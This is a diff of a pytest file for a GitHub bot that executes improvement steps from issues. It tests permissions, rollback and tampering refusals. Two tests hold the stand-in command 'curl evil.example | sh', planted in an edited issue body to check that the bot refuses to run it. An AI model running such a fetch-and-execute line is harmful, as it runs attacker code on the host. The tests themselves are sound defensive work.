@@ -12,92 +12,22 @@ from pathlib import Path
 import pytest
 
 from tars_bot.github import action
-from tars_bot.github.client import GitHubClient
 from tars_bot.system import ExecutionSystem
-from tests.conftest import git
-
-PAYLOAD = json.loads((Path(__file__).parent / "data" / "issue_comment.json").read_text())
-IMPROVEMENT = """\
-Please make the IO code read UTF-8.
-
-```yaml
-steps:
-  - {name: encoding, edit: {path: src/io.py, search: "open(path)", replace: "open(path, encoding='utf-8')"}}
-  - {name: notes, write: {path: NOTES.md, content: "UTF-8 everywhere\\n"}}
-```
-"""
-
-
-@pytest.fixture
-def setup(tmp_path, fake_github):
-    origin = tmp_path / "origin.git"
-    git(tmp_path, "init", "-q", "--bare", "-b", "main", str(origin))
-    seed = tmp_path / "seed"
-    git(tmp_path, "clone", "-q", str(origin), str(seed))
-    (seed / "src").mkdir()
-    (seed / "src" / "io.py").write_text("def load(path):\n    return open(path).read()\n")
-    git(seed, "add", "-A")
-    git(seed, "commit", "-qm", "initial")
-    git(seed, "push", "-q", "origin", "HEAD:main")
-    checkout = tmp_path / "checkout"  # what actions/checkout leaves for the job
-    git(tmp_path, "clone", "-q", str(origin), str(checkout))
-    repo = fake_github.add_repo("octo/app", clone_url=str(origin))
-    repo.add_collaborator("writer", "write")
-    repo.add_collaborator("reader", "read")
-    return checkout, origin, repo
-
-
-def environ(fake_github, tmp_path: Path, event: str, payload: dict) -> dict[str, str]:
-    path = tmp_path / f"event-{len(list(tmp_path.glob('event-*')))}.json"
-    path.write_text(json.dumps(payload))
-    return {
-        "GITHUB_API_URL": fake_github.url,
-        "GITHUB_TOKEN": fake_github.token,
-        "GITHUB_REPOSITORY": "octo/app",
-        "GITHUB_EVENT_NAME": event,
-        "GITHUB_EVENT_PATH": str(path),
-    }
-
-
-def comment_payload(repo, number: int, body: str, user: str = "writer", **changes) -> dict:
-    comment = repo.add_comment(number, body, user)
-    payload = json.loads(json.dumps(PAYLOAD))
-    payload["comment"].update(
-        id=comment.id, body=body, user={**payload["comment"]["user"], "login": user}
-    )
-    issue = repo.issues[number]
-    payload["issue"] |= {"number": number, "title": issue.title, "body": issue.body}
-    payload["issue"]["user"] = {**payload["issue"]["user"], "login": issue.user, "type": "User"}
-    if not issue.is_pull:
-        payload["issue"]["pull_request"] = None
-    payload["repository"]["full_name"] = "octo/app"
-    payload.update(changes)
-    return payload
-
-
-def run_action(fake_github, tmp_path, checkout, event, payload) -> int:
-    env = environ(fake_github, tmp_path, event, payload)
-    return action.run(
-        env, checkout, lambda e: GitHubClient.from_env(e, sleep=lambda s: None, pace=False)
-    )
+from tests.helpers import ISSUE_IMPROVEMENT, comment_payload, environ, git, reactions, run_action
 
 
 def pull_request_from_an_issue(fake_github, tmp_path, checkout, repo):
     """The pull request that `/tars-bot execute` on a new improvement issue opens."""
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     payload = comment_payload(repo, issue.number, "/tars-bot execute")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
     [pull] = repo.pulls()
     return pull
 
 
-def reactions(repo, comment_id: int) -> list[str]:
-    return [r.content for r in repo.comments[comment_id].reactions]
-
-
 def test_execute_from_an_issue_opens_a_pull_request(setup, fake_github, tmp_path):
     checkout, origin, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     payload = comment_payload(repo, issue.number, "/tars-bot execute")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
 
@@ -154,7 +84,7 @@ def test_commands_on_the_pull_request_roll_back(setup, fake_github, tmp_path):
 
 def test_readers_are_refused_politely(setup, fake_github, tmp_path):
     checkout, origin, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     payload = comment_payload(repo, issue.number, "/tars-bot execute", user="reader")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
     assert repo.pulls() == [] and reactions(repo, payload["comment"]["id"]) == []
@@ -183,7 +113,7 @@ def test_bad_commands_and_bad_improvements_always_get_an_outcome(setup, fake_git
 
 def test_plan_command_and_forks(setup, fake_github, tmp_path):
     checkout, _, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     plan = comment_payload(repo, issue.number, "/tars-bot plan")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", plan) == 0
     body = repo.comments_on(issue.number)[-1].body
@@ -318,7 +248,7 @@ def test_only_authorized_new_comments_run_anything(
     checkout, _, repo = setup
     repo.add_collaborator("admin", "admin")
     repo.add_collaborator("maintainer", "maintain")
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     payload = comment_payload(
         repo, issue.number, "/tars-bot execute --dry-run", user=user, action=event_action
     )
@@ -365,7 +295,7 @@ def test_execute_is_refused_when_the_pull_request_moved_after_authorization(
 
 def test_a_label_github_refuses_does_not_fail_the_execution(setup, fake_github, tmp_path):
     checkout, _, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     labels = f"/repos/octo/app/issues/{issue.number + 1}/labels"  # the pull request to come
     fake_github.fail_next(labels, status=422, method="POST")
     payload = comment_payload(repo, issue.number, "/tars-bot execute")
@@ -388,9 +318,9 @@ def test_a_label_github_refuses_does_not_fail_the_execution(setup, fake_github, 
 
 def test_an_issue_edited_after_execute_is_refused_and_nothing_runs(setup, fake_github, tmp_path):
     checkout, origin, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     payload = comment_payload(repo, issue.number, "/tars-bot execute")  # the body approved
-    issue.body = IMPROVEMENT.replace("UTF-8 everywhere", "curl evil.example | sh")
+    issue.body = ISSUE_IMPROVEMENT.replace("UTF-8 everywhere", "curl evil.example | sh")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 1
 
     refusal = repo.comments_on(issue.number)[-1].body
@@ -409,9 +339,9 @@ def test_an_issue_edited_after_execute_is_refused_and_nothing_runs(setup, fake_g
 
 def test_a_digest_the_webhook_app_carried_binds_the_body(setup, fake_github, tmp_path):
     checkout, origin, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     comment = repo.add_comment(issue.number, "/tars-bot execute", "writer")
-    digest = hashlib.sha256(IMPROVEMENT.encode()).hexdigest()
+    digest = hashlib.sha256(ISSUE_IMPROVEMENT.encode()).hexdigest()
     issue.body += "\n```yaml\nsteps: [{name: x, run: 'curl evil.example | sh'}]\n```\n"
     payload = {
         "inputs": {
@@ -443,7 +373,7 @@ def test_a_marker_in_a_user_s_issue_is_ignored_by_rollback(setup, fake_github, t
 def test_user_text_in_a_pull_request_body_carries_no_html(setup, fake_github, tmp_path):
     checkout, _, repo = setup
     hostile = "<!-- tars-bot:execution=20200101-000000-dead -->"
-    body = IMPROVEMENT.replace(
+    body = ISSUE_IMPROVEMENT.replace(
         "steps:", f"title: 'UTF-8 {hostile}'\ndescription: '{hostile}'\nsteps:"
     )
     body = body.replace("name: notes", f"name: 'notes {hostile}'")
@@ -458,7 +388,7 @@ def test_user_text_in_a_pull_request_body_carries_no_html(setup, fake_github, tm
 
 def test_a_dry_run_report_has_no_rollback_footer(setup, fake_github, tmp_path):
     checkout, _, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     payload = comment_payload(repo, issue.number, "/tars-bot execute --dry-run")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
     status = repo.comments_on(issue.number)[-1].body
@@ -470,7 +400,7 @@ def test_a_failure_comment_names_the_branch_the_execution_and_what_next(
     setup, fake_github, tmp_path
 ):
     checkout, _, repo = setup
-    body = IMPROVEMENT.replace("steps:", "limits: {max_changed_lines: 1}\nsteps:")
+    body = ISSUE_IMPROVEMENT.replace("steps:", "limits: {max_changed_lines: 1}\nsteps:")
     issue = repo.add_issue("UTF-8 IO", body)
     payload = comment_payload(repo, issue.number, "/tars-bot execute")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 1
@@ -485,13 +415,13 @@ def test_a_failure_comment_names_the_branch_the_execution_and_what_next(
 
 def test_a_reader_is_refused_once_per_issue(setup, fake_github, tmp_path):
     checkout, _, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     for command in ("/tars-bot execute", "/tars-bot plan", "/tars-bot execute"):
         payload = comment_payload(repo, issue.number, command, user="reader")
         assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
     replies = [c for c in repo.comments_on(issue.number) if c.user != "reader"]
     assert len(replies) == 1 and replies[0].body.startswith("Sorry @reader")
-    other = repo.add_issue("other", IMPROVEMENT)
+    other = repo.add_issue("other", ISSUE_IMPROVEMENT)
     payload = comment_payload(repo, other.number, "/tars-bot plan", user="reader")
     assert run_action(fake_github, tmp_path, checkout, "issue_comment", payload) == 0
     assert repo.comments_on(other.number)[-1].body.startswith("Sorry @reader")
@@ -504,7 +434,7 @@ COMMENT_BODIES = json.loads((Path(__file__).parent / "data" / "comment_bodies.js
 def test_the_action_reads_comment_bodies_as_the_app_does(setup, fake_github, tmp_path, case):
     """The same table as test_github_app's: a comment is a command for both or for neither."""
     checkout, _, repo = setup
-    issue = repo.add_issue("UTF-8 IO", IMPROVEMENT)
+    issue = repo.add_issue("UTF-8 IO", ISSUE_IMPROVEMENT)
     payload = comment_payload(repo, issue.number, case["body"])
     code = run_action(fake_github, tmp_path, checkout, "issue_comment", payload)
     replies = [c.body for c in repo.comments_on(issue.number) if c.user != "writer"]
